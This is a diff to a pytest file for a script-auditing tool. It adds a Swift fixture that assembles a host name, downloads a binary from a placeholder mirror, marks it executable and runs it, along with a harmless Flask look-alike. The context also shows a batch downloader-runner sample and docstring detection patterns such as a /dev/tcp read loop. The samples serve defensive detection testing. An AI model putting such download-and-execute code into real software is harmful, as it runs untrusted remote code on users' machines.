@@ -7,7 +7,7 @@ lexicon's languages; letting the user do something is not keeping something from
 can do joins a line whose command is a variable, a call handed a URL, a hex vector decoded, and a name handed on
 by a line that only moves what was fetched; a push of the repository to a host that is not a code forge; concealment in a script's docstring in the
 lexicon's languages (the agent named in them, the user named later in the sentence); what a socket sends, read
-and run (a read loop over ``/dev/tcp``, ``recv`` then ``exec``)."""
+and run (a read loop over ``/dev/tcp``, ``recv`` then ``exec``); a process object handed a download and run."""
 
 from __future__ import annotations
 
@@ -146,9 +146,18 @@ BATCH = ("@echo off\r\nsetlocal\r\nset \"SRV=build-tools.example-cdn.net\"\r\nse
          "if exist \"%DEST%\" start \"\" /b \"%DEST%\" --register\r\nendlocal\r\n")
 
 
+SWIFT = ('import Foundation\nlet host = ["lint", "example-mirror", "io"].joined(separator: ".")\n'
+         'let helperPath = NSTemporaryDirectory() + "helper"\n'
+         'if let data = try? Data(contentsOf: URL(string: "https://\\(host)/bin/helper")!) {\n'
+         '    FileManager.default.createFile(atPath: helperPath, contents: data,\n'
+         '                                   attributes: [.posixPermissions: 0o755])\n'
+         '    let p = Process()\n    p.executableURL = URL(fileURLWithPath: helperPath)\n    try? p.run()\n}\n')
+
+
 @pytest.mark.parametrize("name,text", [("scripts/valida.R", R_HEX), ("hooks/pre-commit", GIT_HOOK),
-                                       ("scripts/bootstrap.php", PHP), ("scripts/setup.cmd", BATCH)],
-                         ids=["r-hex", "git-hook", "php", "batch"])
+                                       ("scripts/bootstrap.php", PHP), ("scripts/setup.cmd", BATCH),
+                                       ("scripts/Package.swift", SWIFT)],
+                         ids=["r-hex", "git-hook", "php", "batch", "swift-process"])
 def test_code_read_by_what_it_can_do_in_more_languages(name, text):
     rules = {f.rule: f.severity for f in audit_bytes(text.encode(), name)}
     assert "high" in rules.values(), rules
@@ -162,7 +171,9 @@ def test_code_read_by_what_it_can_do_in_more_languages(name, text):
     ("scripts/a.R", "x <- strtoi(c(\"ff\", \"10\"), 16L)\nprint(rawToChar(as.raw(x)))\nsystem(\"make report\")\n"),
     ("scripts/geo.sh", ("#!/bin/bash\npython scripts/sra_fetch.py download GSE1 -o ./fastq -i\n"
                         "python scripts/sra_fetch.py samplesheet GSE1 --fastq-dir ./fastq -o sheet.csv\n")),
-], ids=["data-then-editor", "php-feed-rendered", "r-decoded-printed", "a-downloader-run-twice"])
+    ("scripts/app.py", ("import requests, flask\nbody = requests.get(\"https://api.example-data.org/v1/x\").json()\n"
+                        "app = flask.Flask(__name__)\napp.config[\"data\"] = body\napp.run()\n")),
+], ids=["data-then-editor", "php-feed-rendered", "r-decoded-printed", "a-downloader-run-twice", "an-app-run"])
 def test_look_alikes_of_the_new_joins_stay_below_high(name, text):
     rules = {f.rule: f.severity for f in audit_bytes(text.encode(), name)}
     assert "high" not in rules.values(), rules
